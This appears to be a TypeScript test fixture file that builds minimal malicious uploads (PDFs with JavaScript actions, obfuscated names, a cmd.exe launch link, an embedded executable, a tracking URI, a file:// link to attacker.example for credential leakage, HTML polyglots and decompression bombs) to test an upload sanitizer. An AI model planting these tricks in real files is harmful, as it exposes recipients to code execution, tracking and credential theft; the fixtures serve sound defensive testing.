import { deflateSync } from "node:zlib";
import { ascii, bigEndian32, join } from "./bytes";
import { buildHeic } from "./heic-builder";
import { documentPdf, objectStream } from "./pdf-builder";
import { HTML, JPEG, PDF, PNG, jpegWithExif, pngChunk, rgbPng } from "./sample-files";
import { exifTiff } from "./exif";

// Test support: uploads that would attack the caseworker who opens them, or carry a family's
// location, each the smallest file showing one trick. See sample-files.ts for the clean ones.

const ALERT = "/S /JavaScript /JS (app.alert\\(1\\))";

/** Runs JavaScript as soon as the file opens. */
export const PDF_OPEN_ACTION_JAVASCRIPT = documentPdf({
  catalog: "/OpenAction 6 0 R",
  objects: [`<< /Type /Action ${ALERT} >>`],
});

/** Document-level JavaScript, run on opening (the catalog's /Names /JavaScript tree). */
export const PDF_NAMES_JAVASCRIPT = documentPdf({
  catalog: "/Names << /JavaScript 6 0 R >>",
  objects: ["<< /Names [(init) 7 0 R] >>", `<< ${ALERT} >>`],
});

/** JavaScript run when the page is shown (the page's additional actions, /AA /O). */
export const PDF_PAGE_AA_JAVASCRIPT = documentPdf({ page: "/AA << /O 6 0 R >>", objects: [`<< ${ALERT} >>`] });

/** /S /JavaScript and /JS spelt with #-escapes, in lower-case hex, which viewers decode and pdf-lib does not. */
export const PDF_OBFUSCATED_JAVASCRIPT = documentPdf({
  catalog: "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
});

/** A link that starts a program. */
export const PDF_LAUNCH = documentPdf({
  page: "/Annots [6 0 R]",
  objects: ["<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A << /S /Launch /F (cmd.exe) >> >>"],
});

/** An attached program, listed in the catalog's /Names /EmbeddedFiles tree. */
export const PDF_EMBEDDED_FILE = documentPdf({
  catalog: "/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
  objects: [
    "<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
    { entries: "/Type /EmbeddedFile", stream: "MZ\u0090\u0000 not really a program" },
  ],
});

/** An attachment shown as a paper-clip annotation on the page. */
export const PDF_FILE_ATTACHMENT = documentPdf({
  page: "/Annots [6 0 R]",
  objects: ["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (a.txt) >> >>"],
});

/** Opens a web address (which learns the caseworker opened it, and from where) as soon as the file opens. */
export const PDF_OPEN_ACTION_URI = documentPdf({
  catalog: "/OpenAction << /S /URI /URI (https://tracker.example/opened) >>",
});

/** A link to a file share: following it sends the caseworker's Windows credentials to that host. */
export const PDF_FILE_LINK = documentPdf({
  page: "/Annots [6 0 R]",
  objects: [
    "<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A << /S /URI /URI (file://attacker.example/share/x) >> >>",
  ],
});

/** An XFA form, whose scripts Acrobat runs. */
export const PDF_XFA = documentPdf({
  catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
  objects: [{ entries: "", stream: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>' }],
});

/**
 * JavaScript inside a compressed object stream, where the bytes never show it: the catalog's
 * /OpenAction points at object 7, stored in the object stream 6.
 */
export const PDF_JAVASCRIPT_IN_OBJECT_STREAM = documentPdf({
  catalog: "/OpenAction 7 0 R",
  objects: [objectStream([[7, `<< /Type /Action ${ALERT} >>`]])],
});

/** Encrypted with the standard security handler (what "security settings" and passwords make). */
export const PDF_ENCRYPTED = documentPdf({
  trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -3904 >> /ID [<00><00>] ",
});

/** Broken: a dictionary that is never closed. */
export const PDF_DAMAGED = join(
  "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\nendobj\n",
  "trailer\n<< /Root 1 0 R >>\n%%EOF\n",
);

/** An HTML page first, then a PDF: browsers show the page, PDF viewers find the header and show the PDF. */
export const HTML_THEN_PDF = join(HTML, "\n", PDF);
/** A PDF with a web page appended after its end. */
export const PDF_THEN_HTML = join(PDF, HTML);
/** The same, with a %%EOF added after the page so that the file still seems to end as a PDF. */
export const PDF_THEN_HTML_THEN_EOF = join(PDF, HTML, "\n%%EOF\n");
/** A script inside a PDF comment: invisible to PDF viewers, run by a browser. */
export const PDF_WITH_SCRIPT_COMMENT = documentPdf({ page: "\n%<script>alert(1)</script>\n" });

/** An object stream that inflates to 16 MB from a few KB: a "decompression bomb". */
export function pdfObjectStreamBomb(): Uint8Array {
  const contents = new Uint8Array(16 * 1024 * 1024).fill(0x20);
  return documentPdf({
    objects: [{ entries: "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", stream: deflateSync(contents) }],
  });
}

/** Links to a web page (followed only if the caseworker chooses), and opens at page 1: nothing active. */
export const PDF_WITH_WEB_LINK = documentPdf({
  catalog: "/OpenAction [3 0 R /Fit]",
  page: "/Annots [6 0 R]",
  objects: [
    "<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A << /S /URI /URI (https://www.city.example.lg.jp/) >> >>",
  ],
});

/** A PNG with a web page after its end (IEND). */
export const PNG_THEN_HTML = join(PNG, HTML);
/** A PNG with EXIF (eXIf chunk: GPS, a description) and a web page after its end. */
export const PNG_WITH_EXIF_THEN_HTML = join(
  rgbPng(2, [[40, 90, 160, 255, 255, 255]], [pngChunk("eXIf", exifTiff(1))]),
  HTML,
);
/** A JPEG with EXIF (GPS, a description; orientation 6: turn 90° clockwise) and a web page after its end (EOI). */
export const JPEG_WITH_EXIF_THEN_HTML = join(jpegWithExif(6), HTML);
/** A JPEG with a web page after its end and nothing else. */
export const JPEG_THEN_HTML = join(JPEG, HTML);

/** A PNG that claims 20000 × 20000 pixels (1.2 GB decoded) in a few hundred bytes. */
export const PNG_DECOMPRESSION_BOMB = join(
  PNG.subarray(0, 8),
  pngChunk("IHDR", join(bigEndian32(20_000), bigEndian32(20_000), Uint8Array.of(8, 2, 0, 0, 0))),
  pngChunk("IDAT", deflateSync(new Uint8Array(60_001))),
  pngChunk("IEND", new Uint8Array()),
);

/** A HEIC photo with a web page after its last box. */
export const HEIC_THEN_HTML = join(buildHeic(), HTML);
/** A HEIC photo with a few bytes after its last box: not even a box header. */
export const HEIC_THEN_BYTES = join(buildHeic(), ascii("\0\0\0"));
/** A HEIC photo with a box of a kind photos never have, holding a ZIP archive. */
export const HEIC_WITH_FOREIGN_BOX = join(
  buildHeic(),
  bigEndian32(30),
  ascii("zzzz"),
  ascii("PK\u0005\u0006"),
  new Uint8Array(18),
);
/** A HEIC photo cut off in its image data. */
export const HEIC_TRUNCATED = buildHeic().subarray(0, buildHeic().byteLength - 10);
